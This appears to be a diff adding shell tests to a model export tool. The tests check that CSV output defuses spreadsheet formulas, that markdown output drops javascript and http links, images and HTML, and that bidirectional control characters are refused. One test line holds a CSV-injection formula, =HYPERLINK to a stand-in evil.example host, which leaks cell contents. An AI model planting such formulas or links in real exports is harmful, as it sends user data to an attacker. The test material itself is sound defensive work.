@@ -152,6 +152,43 @@ want_status 0
 cmp -s "$out" tests/export/columns-strands.md || problem "differs from tests/export/columns-strands.md"
 verdict "export -f markdown"
 
+run export tests/export/formulas.xml
+want_status 0
+cmp -s "$out" tests/export/formulas.csv || problem "differs from tests/export/formulas.csv"
+python3 - "$out" <<'PY' || problem "a cell of the CSV starts a formula"
+import csv, sys
+with open(sys.argv[1], newline="", encoding="utf-8") as f:
+    rows = list(csv.reader(f))
+cells = [c for r in rows for c in r if c]
+assert not [c for c in cells if c[0] in "=+-@\t\r"], cells
+assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells and "'=1+1\n+44 helpline" in cells, cells
+PY
+cp "$out" "$work/formulas.csv"
+run import csv "$work/formulas.csv" -o "$work/formulas.xml"
+want_status 0
+run export "$work/formulas.xml"
+want_status 0
+cmp -s "$out" "$work/formulas.csv" || problem "export -> import -> export is not byte-identical"
+verdict "export csv: no cell starts a formula (=HYPERLINK, tab then =), and the round trip is exact"
+
+run export -f markdown tests/export/formulas.xml
+want_status 0
+cmp -s "$out" tests/export/formulas.md || problem "differs from tests/export/formulas.md"
+! grep -q -e '](javascript:' -e '](http' -e '<img' "$out" || problem "a link, image or tag survives: $(grep -e '](' -e '<img' "$out")"
+verdict "export -f markdown: no link, image or HTML from the titles"
+
+printf 'Inputs\nab\342\200\256c\n' >"$work/bidi.csv"
+run import csv "$work/bidi.csv"
+want_status 2
+want_stdout ""
+want_stderr "$work/bidi.csv:2:3: error: a bidirectional control character (U+202E), which can show text in another order than it is stored; remove it"
+sed 's|<title>Fewer people feel isolated|<title>Fewer \&#x202E;people|' tests/export/awkward.xml >"$work/bidi.xml"
+run export "$work/bidi.xml"
+want_status 2
+want_stdout ""
+want_stderr "$work/bidi.xml:15:32: error: a bidirectional control character (U+202E), which can show text in another order than it is stored; remove it"
+verdict "import and export refuse bidirectional control characters, located"
+
 run export -f kumu -o "$work/kumu.json" models/wws-partnership.xml
 want_status 0
 want_stdout ""
